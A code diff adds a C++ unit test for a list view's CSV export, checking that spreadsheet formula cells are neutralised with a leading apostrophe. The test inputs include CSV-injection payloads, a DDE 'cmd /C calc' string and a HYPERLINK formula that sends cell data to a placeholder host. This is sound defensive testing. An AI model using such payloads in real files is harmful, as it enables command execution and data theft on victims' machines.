@@ -51,6 +51,31 @@ TEST(AccionesLista, elCsvSigueElOrdenMostradoYEntrecomillaLoQueHaceFalta)
                                                    "F-1\tUno; dos\t10.00\n"));
 }
 
+// Cells a spreadsheet would run as formulas go out as text; numbers stay numbers.
+TEST(AccionesLista, elCsvNoLlevaFormulas)
+{
+    const std::vector<std::pair<QString, QString>> casos = {
+        {QStringLiteral("=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")"),
+         QStringLiteral("\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\"")},
+        {QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("'@SUM(1+1)*cmd|' /C calc'!A0")},
+        {QStringLiteral("=cmd|' /C calc'!A0"), QStringLiteral("'=cmd|' /C calc'!A0")},
+        {QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("'+cmd|' /C calc'!A0")},
+        {QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("'-2+3+cmd|' /C calc'!A0")},
+        {QStringLiteral("\t=1+1"), QStringLiteral("'\t=1+1")},
+        {QStringLiteral("\r=1+1"), QStringLiteral("\"'\r=1+1\"")},
+        {QStringLiteral("-1234.50"), QStringLiteral("-1234.50")},
+        {QStringLiteral("+7"), QStringLiteral("+7")},
+        {QStringLiteral("-"), QStringLiteral("'-")},
+        {QStringLiteral("a=b"), QStringLiteral("a=b")},
+    };
+    for (const auto &[valor, esperado] : casos) {
+        SCOPED_TRACE(valor.toStdString());
+        Controles::ListView lista;
+        lista.replaceContents({QStringLiteral("=Folio")}, {{QString(), {valor}}});
+        EXPECT_EQ(textoCsv(lista), QStringLiteral("'=Folio\r\n") + esperado + QStringLiteral("\r\n"));
+    }
+}
+
 TEST(AccionesLista, lasColumnasSalenComoEnPantallaMovidasYSinLasOcultas)
 {
     Controles::ListView lista;
